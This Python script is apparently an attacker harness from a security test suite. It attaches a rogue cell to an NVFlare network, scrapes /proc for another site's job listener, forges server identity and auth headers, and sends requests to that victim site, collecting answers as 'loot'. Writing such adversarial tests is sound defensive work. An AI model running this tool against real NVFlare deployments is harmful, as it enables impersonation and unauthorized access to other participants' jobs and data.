"""A program that attaches a cell of its own to NVFlare's network and asks another's door: what an attacker runs.

    python foreign_cell.py < plan.json > what.json

It uses NVFlare and the standard library, nothing of wardround: no key and no file of ours, but what the plan names.
A plan is a JSON object; what comes out is one, too (`attackers.Plan` and `attackers.Loot` are their types):

    name    the cell's own name, such as site-0.spy
    root    the coordinator's URL, or none
    parent  the URL of a site's listener for its job processes, or none
    kit     the folder with a certificate and its key, for the root
    auth    the headers that NVFlare's server asks for: client name, token, signature
    victim  the site whose door is wanted; with `auth`, its job is asked of the server
    look    what the command of a site's job has in it: its listener, and job, are found in the process list
    become  the user and the group whose rights are left before anything is looked at or connected to, if not our own
    asks    [head, data in base64] of each ask
"""

import base64
import io
import json
import logging
import os
import sys
import time
from contextlib import redirect_stdout, suppress
from pathlib import Path
from typing import Any

from nvflare.apis.shareable import ReservedHeaderKey, Shareable
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.core_cell import Message
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.communicator import load_comm_drivers
from nvflare.private.defs import CellChannel, CellMessageHeaderKeys
from nvflare.private.fed.utils.fed_utils import nvflare_fobs_initialize

TOPIC = "wardround"
SECONDS = 30.0


def cell_of(plan: dict[str, Any]) -> Any:
    """A started cell, connected to the root or to a parent."""
    kit = Path(plan["kit"]) if plan.get("kit") else None
    credentials = (
        {
            "ca_cert": str(kit / "rootCA.pem"),
            "client_cert": str(kit / "client.crt"),
            "client_key": str(kit / "client.key"),
        }
        if kit
        else {}
    )
    options: dict[str, Any] = {"root_url": plan.get("root") or "tcp://localhost:1", "secure": kit is not None}
    if plan.get("parent"):
        options |= {"parent_url": plan["parent"], "parent_resources": {"connection_security": "clear"}}
    cell = Cell(plan["name"], credentials=credentials, create_internal_listener=False, **options)
    content = plan.get("auth") or {}
    headers = {
        CellMessageHeaderKeys.CLIENT_NAME: content.get("client"),
        CellMessageHeaderKeys.TOKEN: content.get("token"),
        CellMessageHeaderKeys.TOKEN_SIGNATURE: content.get("signature"),
    }

    def signed(message: Message) -> None:
        for key, value in headers.items():
            if value:
                message.set_header(key, value)

    cell.core_cell.add_outgoing_request_filter("*", "*", signed)
    cell.start()
    return cell


def connected(cell: Any, seconds: float) -> bool:
    """Whether the cell got through to its root or parent in time."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if cell.core_cell.agents:
            return True
        time.sleep(0.1)
    return False


def become(user: int, group: int) -> None:
    """Drop all rights but this user's, for good; the interpreter itself may lie where that user could not start it."""
    os.setgroups([])
    os.setresgid(group, group, group)
    os.setresuid(user, user, user)


def looked_up(what: str) -> tuple[str, str] | None:
    """The listener and the job of a site, from the list of processes that every user of the machine can read."""
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            words = path.read_bytes().decode(errors="replace").split("\0")
            if "-p" in words and "-n" in words and any(what in word for word in words):
                return words[words.index("-p") + 1], words[words.index("-n") + 1]
    return None


def peers(cell: Any, of: str) -> list[str]:
    """The cells that are connected to this one, as NVFlare's own net agent says."""
    reply = cell.core_cell.send_request(
        channel="_net_manager", topic="peers", target=of, request=Message(payload=None), timeout=5.0, optional=True
    )
    found = reply.payload
    return [str(peer) for peer in found] if isinstance(found, list) else []


def asked(cell: Any, target: str, head: dict[str, Any], data: bytes) -> dict[str, Any]:
    """What a door answers to an ask, as the coordinator's pipe would send it."""
    request = Shareable()
    request["head"], request["data"] = head, data
    request.set_header(ReservedHeaderKey.TOPIC, TOPIC)
    request.set_peer_props({"__identity_name__": "server"})
    reply = cell.send_request(
        channel=CellChannel.AUX_COMMUNICATION, topic=TOPIC, target=target, request=Message(payload=request),
        timeout=SECONDS, optional=True,
    )  # fmt: skip
    code = str(reply.get_header(MessageHeaderKey.RETURN_CODE, ""))
    answer = reply.payload
    if not isinstance(answer, Shareable) or "head" not in answer:
        return {"code": code, "head": None, "data": ""}
    data = bytes(answer.get("data") or b"")
    return {"code": code, "head": dict(answer["head"]), "data": base64.b64encode(data).decode()}


def main() -> None:
    """Carry out the plan."""
    plan = json.load(sys.stdin)
    logging.disable(logging.CRITICAL)
    loot: dict[str, Any] = {"user": os.getuid(), "connected": False, "peers": [], "answers": []}
    with redirect_stdout(io.StringIO()):
        nvflare_fobs_initialize()
        load_comm_drivers()
        if plan.get("become"):
            become(*plan["become"])
            loot["user"] = os.getuid()
        target = ""
        if plan.get("look") and (found := looked_up(plan["look"])):
            plan["parent"] = found[0]
            target = f"{plan['victim']}.{found[1]}"
        if plan.get("root") or plan.get("parent"):
            cell = cell_of(plan)
            loot["connected"] = connected(cell, plan["seconds"])
            if plan.get("auth"):
                loot["peers"] = peers(cell, "server")
                target = next((peer for peer in loot["peers"] if peer.startswith(f"{plan['victim']}.")), "")
            for head, data in plan["asks"] if target else ():
                loot["answers"].append(asked(cell, target, head, base64.b64decode(data)))
    sys.stdout.write(json.dumps(loot))
    sys.stdout.flush()
    os._exit(0)  # NVFlare's threads would go on


if __name__ == "__main__":
    main()
